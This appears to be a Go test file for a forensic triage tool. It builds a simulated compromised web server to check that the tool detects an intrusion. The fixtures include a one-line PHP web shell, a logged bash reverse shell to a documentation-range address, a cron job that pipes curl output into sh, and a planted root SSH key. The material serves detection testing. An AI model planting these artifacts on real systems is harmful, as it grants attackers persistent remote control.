package response

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"firebreak/config"
	"firebreak/forensics/triage"
	"firebreak/record"
)

// host is a folder that stands for the disk of a web server.
type host struct {
	*testing.T
	root string
	now  time.Time // of the collection
}

func (h *host) at(ago time.Duration) time.Time { return h.now.Add(-ago) }

func (h *host) write(name, content string, ago time.Duration) {
	h.Helper()
	path := filepath.Join(h.root, name)
	for _, err := range []error{os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(content), 0o644), os.Chtimes(path, h.at(ago), h.at(ago))} {
		if err != nil {
			h.Fatal(err)
		}
	}
}

const (
	day      = 24 * time.Hour
	years    = 900 * day
	begin    = 30 * time.Hour // how long ago the intruder came
	intruder = "203.0.113.50"
)

func (h *host) auth(ago time.Duration, text string) string {
	return h.at(ago).UTC().Format("2006-01-02T15:04:05.000000+00:00") + " web-1 " + text + "\n"
}

func (h *host) request(ago time.Duration, ip, line string, status, size int) string {
	return fmt.Sprintf("%s - - [%s] \"%s\" %d %d \"-\" \"Mozilla/5.0\"\n", ip, h.at(ago).UTC().Format("02/Jan/2006:15:04:05 -0700"), line, status, size)
}

// newHost is a server that nobody broke into: two months of logins and requests,
// and the files of a system. With seeded, somebody did.
func newHost(t *testing.T, now time.Time, seeded bool) *host {
	h := &host{T: t, root: t.TempDir(), now: now}
	alice, alicePrint := publicKey("alice", "alice@laptop")
	eve, evePrint := publicKey("eve", "x")
	h.write("etc/hostname", "web-1\n", years)
	h.write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n", years)
	h.write("etc/shadow", "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nalice:$y$j9T$x$y:19000:0:99999:7:::\n", years)
	h.write("etc/group", "root:x:0:\nwww-data:x:33:\nalice:x:1000:\n", years)
	h.write("etc/crontab", "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n", years)
	h.write("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all\n", years)
	h.write("etc/profile", "export PATH\n", years)
	h.write("etc/ssh/sshd_config", "PasswordAuthentication no\n", years)
	h.write("etc/pam.d/sshd", "auth required pam_unix.so\naccount required pam_nologin.so\n", years)
	h.write("etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", years)
	for i := range 60 { // a system has many files that came together
		h.write(fmt.Sprintf("etc/apps/a%d.conf", i), "a=1\n", years)
		h.write(fmt.Sprintf("var/www/html/lib/%d.inc", i), "<?php\n", years)
	}
	h.write("home/alice/.ssh/authorized_keys", alice, years)
	h.write("home/alice/.bash_history", "ls\nsudo systemctl reload apache2\nvim /etc/apache2/apache2.conf\n", 2*day)
	h.write("var/www/html/index.php", "<?php echo 1;\n", years)
	h.write("var/www/html/upload.php", "<?php move_uploaded_file();\n", years)

	var auth, access, wtmp strings.Builder
	for ago := 60 * day; ago > 2*time.Hour; ago -= 5 * time.Hour {
		auth.WriteString(h.auth(ago, "CRON[99]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)"))
		access.WriteString(h.request(ago, "198.51.100.7", "GET /index.php HTTP/1.1", 200, 512))
		if seeded && ago > begin && ago-5*time.Hour <= begin {
			h.breakIn(&auth, &access, eve, evePrint)
		}
		auth.WriteString(h.auth(ago-time.Minute, "sshd[811]: Accepted publickey for alice from 10.0.0.5 port 40022 ssh2: ED25519 "+alicePrint))
		wtmp.WriteString(h.utmp(ago-time.Minute, "alice", "10.0.0.5"))
	}
	h.write("var/log/auth.log", auth.String(), 3*time.Hour)
	h.write("var/log/apache2/access.log", access.String(), 3*time.Hour)
	h.wtmp(wtmp.String(), seeded)
	return h
}

// utmp is a login in the form of utmpdump.
func (h *host) utmp(ago time.Duration, user, ip string) string {
	return fmt.Sprintf("[7] [%05d] [ts/0] [%-8s] [%-12s] [%-20s] [%-15s] [%s]\n", 811, user, "pts/0", ip, ip, h.at(ago).UTC().Format("2006-01-02T15:04:05,000000+00:00"))
}

// wtmp has utmpdump write the records; of a wiped one zeros are left.
func (h *host) wtmp(text string, wiped bool) {
	h.Helper()
	if _, err := exec.LookPath("utmpdump"); err != nil {
		h.Log("utmpdump is missing: no wtmp is made")
		return
	}
	c := exec.Command("utmpdump", "-r")
	c.Stdin = strings.NewReader(text)
	out, err := c.Output()
	if err != nil || len(out) == 0 {
		h.Fatalf("utmpdump -r: %v, %d bytes", err, len(out))
	}
	if wiped {
		clear(out[len(out)-384*2 : len(out)-384])
	}
	h.write("var/log/wtmp", string(out), 3*time.Hour)
}

// breakIn is what the intruder does: a web shell through the upload, a reverse
// shell, a job of cron, a key for root, a history that leads to nothing.
func (h *host) breakIn(auth, access *strings.Builder, key, fingerprint string) {
	access.WriteString(h.request(begin, intruder, "GET /upload.php HTTP/1.1", 200, 300))
	access.WriteString(h.request(begin-time.Minute, intruder, "POST /upload.php HTTP/1.1", 200, 41))
	access.WriteString(h.request(begin-2*time.Minute, intruder, "GET /uploads/logo.php?cmd=id HTTP/1.1", 200, 54))
	access.WriteString(h.request(begin-3*time.Minute, intruder, "GET /uploads/logo.php?cmd=bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/203.0.113.50/4444%200%3E%261%27 HTTP/1.1", 200, 0))
	h.write("var/www/html/uploads/logo.php", "<?php system($_GET['cmd']);\n", begin-time.Minute)
	h.write("etc/cron.d/sysupd", "*/10 * * * * root curl -fs http://"+intruder+"/u | sh\n", begin-20*time.Minute)
	h.write("root/.ssh/authorized_keys", key, begin-30*time.Minute)
	auth.WriteString(h.auth(begin-40*time.Minute, "sshd[999]: Accepted publickey for root from "+intruder+" port 51022 ssh2: ED25519 "+fingerprint))
	if err := os.Symlink("/dev/null", filepath.Join(h.root, "root/.bash_history")); err != nil {
		h.Fatal(err)
	}
}

// taken is the host's disk collected into a new incident.
func (h *host) taken() *bench {
	h.Helper()
	b := newBench(h.T, config.Config{})
	b.clock.Advance(h.now.Sub(b.clock.Now()))
	b.open()
	sum, err := b.s.Collect(h.Context(), b.id, CollectOptions{Root: h.root}, nil)
	b.must(err)
	if sum.Host != "web-1" {
		h.Fatalf("collected %+v", sum)
	}
	return b
}

// Of a server that nobody broke into there is nothing to look at.
func TestTriageOfACleanHost(t *testing.T) {
	h := newHost(t, time.Now(), false)
	b := h.taken()
	r, err := b.s.Triage(t.Context(), b.id, TriageOptions{}, nil)
	b.must(err)
	for _, f := range r.Findings {
		if f.Severity != triage.Info {
			t.Errorf("%s %s: %s (%s)", f.Severity, f.Title, f.About, f.Reason)
		}
	}
}

// An analyst who has a collection and nothing else answers who, from where, when,
// what stays, and in which order.
func TestTriageOfASeededHost(t *testing.T) {
	h := newHost(t, time.Now(), true)
	b := h.taken()
	r, err := b.s.Triage(t.Context(), b.id, TriageOptions{}, nil)
	b.must(err)
	find := func(rule, about string) TriageFinding {
		t.Helper()
		for _, f := range r.Findings {
			if slices.Contains(f.Rules(), rule) && strings.Contains(f.About, about) {
				return f
			}
		}
		t.Errorf("no finding of %s about %q", rule, about)
		return TriageFinding{}
	}
	// Who and from where: the address that used the web shell is the one from
	// which root came in, with a key that was never seen.
	shell := find("web-upload-then-use", intruder)
	find("web-command", intruder)
	find("login-new-place", "user root, net 203.0.113.0/24")
	find("login-new-key", "user root")
	// What stays.
	cron := find("persist-fetches-code", "/etc/cron.d/sysupd")
	key := find("sshkey-new", "/root/.ssh/authorized_keys")
	script := find("webroot-script-in-uploads", "/var/www/html/uploads/logo.php")
	// What was hidden.
	find("log-linked-away", "/root/.bash_history")
	if _, err := exec.LookPath("utmpdump"); err == nil {
		find("login-record-wiped", "/var/log/wtmp")
	}
	// In which order: every step stands behind the one before.
	login := find("login-new-key", "user root")
	steps := []TriageFinding{shell, cron, key, login}
	for i, f := range steps {
		if i > 0 && !steps[i-1].First.Before(f.First) {
			t.Errorf("%s at %s, before %s at %s", f.Rule, f.First, steps[i-1].Rule, steps[i-1].First)
		}
	}
	// When: the first of them, to the second.
	if want := h.at(begin - 2*time.Minute); shell.First.Sub(want).Abs() > time.Second {
		t.Errorf("the web shell was used first at %s, want %s", shell.First, want)
	}
	// The upload itself is found from the address, and nothing of it came before.
	page, err := b.s.Page(t.Context(), b.id, PageRequest{Filter: "ip:" + intruder + " kind:logged"})
	b.must(err)
	if len(page) != 5 || page[0].Attributes.Get("url") != "/upload.php" || page[1].Attributes.Get("method") != "POST" || page[4].User != "root" {
		t.Errorf("%d events of the intruder: %+v", len(page), page)
	}
	if cron.Severity != triage.Critical || r.Findings[0].Severity != triage.Critical {
		t.Errorf("the job is %s, the first finding %s", cron.Severity, r.Findings[0].Title)
	}
	// The list is short: nobody reads a long one.
	loud := 0
	for _, f := range r.Findings {
		if f.Severity.Rank() > triage.Low.Rank() {
			loud++
		}
	}
	if loud > 12 {
		t.Errorf("%d findings above low", loud)
	}
	// The events behind can be opened, and the same is found each time.
	for _, f := range []TriageFinding{shell, cron, key, script} {
		n, err := b.s.Count(t.Context(), b.id, f.Filter)
		b.must(err)
		if n == 0 || n < int64(len(f.Events)) {
			t.Errorf("%s: %d events by %q", f.Rule, n, f.Filter)
		}
	}
	again, err := b.s.Triage(t.Context(), b.id, TriageOptions{}, nil)
	b.must(err)
	one, err := json.Marshal(r)
	b.must(err)
	two, err := json.Marshal(again)
	b.must(err)
	if !bytes.Equal(one, two) {
		t.Error("the second answer is another one")
	}
	b.judged(cron, key)
}

// judged confirms one finding and dismisses the other.
func (b *bench) judged(yes, no TriageFinding) {
	b.Helper()
	ctx := b.Context()
	_, err := b.s.Judge(ctx, b.id, yes.ID, true, "", TriageOptions{}, nil)
	b.want(CodeUsage, err)
	_, err = b.s.Judge(ctx, b.id, "f0", true, "x", TriageOptions{}, nil)
	b.want(CodeNotFound, err)
	f, err := b.s.Judge(ctx, b.id, yes.ID, true, "not one of our jobs", TriageOptions{}, nil)
	b.must(err)
	if f.Judged == nil || f.Judged.Verdict != record.Confirmed || f.Judged.By != "ada" {
		b.Errorf("judged %+v", f.Judged)
	}
	_, err = b.s.Judge(ctx, b.id, no.ID, false, "our deployment", TriageOptions{}, nil)
	b.must(err)
	r, err := b.s.Triage(ctx, b.id, TriageOptions{}, nil)
	b.must(err)
	all, err := b.s.Triage(ctx, b.id, TriageOptions{All: true}, nil)
	b.must(err)
	if r.Dismissed != 1 || len(all.Findings) != len(r.Findings)+1 {
		b.Errorf("%d dismissed, %d of %d findings", r.Dismissed, len(r.Findings), len(all.Findings))
	}
	i := slices.IndexFunc(r.Findings, func(f TriageFinding) bool { return f.ID == yes.ID })
	if i < 0 || r.Findings[i].Judged == nil || r.Findings[i].Judged.Reason != "not one of our jobs" {
		b.Error("the confirmed finding is not there, or says nothing of it")
	}
	b.verified()
}

// A program that was deleted while it runs, and a shell that holds a connection,
// are found on a live host.
func TestTriageOfProcesses(t *testing.T) {
	dir := t.TempDir()
	sleeper := filepath.Join(dir, "kworker")
	src, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Skip("/bin/sleep is missing")
	}
	if err := os.WriteFile(sleeper, src, 0o755); err != nil {
		t.Fatal(err)
	}
	deleted := exec.Command(sleeper, "600")
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash is missing")
	}
	var l net.Listener
	if l, err = (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = l.Close() }()
	shell := exec.Command(bash, "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; read -r x <&3", l.Addr().(*net.TCPAddr).Port))
	for _, c := range []*exec.Cmd{deleted, shell} {
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			_ = c.Process.Signal(syscall.SIGKILL)
			_ = c.Wait()
		})
	}
	conn, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	for range 200 { // until it runs the file, which then goes
		if exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", deleted.Process.Pid)); err == nil && exe == sleeper {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err := os.Remove(sleeper); err != nil {
		t.Fatal(err)
	}
	b := newBench(t, config.Config{})
	b.clock.Advance(time.Since(b.clock.Now()))
	b.open()
	_, err = b.s.Collect(t.Context(), b.id, CollectOptions{Collectors: []string{"linux.processes", "linux.sockets"}}, nil)
	b.must(err)
	r, err := b.s.Triage(t.Context(), b.id, TriageOptions{}, nil)
	b.must(err)
	for rule, says := range map[string]string{"process-deleted-temp": sleeper, "shell-on-socket": fmt.Sprintf("bash[%d]", shell.Process.Pid), "shell-code-running": "/dev/tcp/127.0.0.1/"} {
		if !slices.ContainsFunc(r.Findings, func(f TriageFinding) bool {
			text, _ := json.Marshal(f)
			return slices.Contains(f.Rules(), rule) && bytes.Contains(text, []byte(says))
		}) {
			t.Errorf("no finding of %s that says %s", rule, says)
		}
	}
}
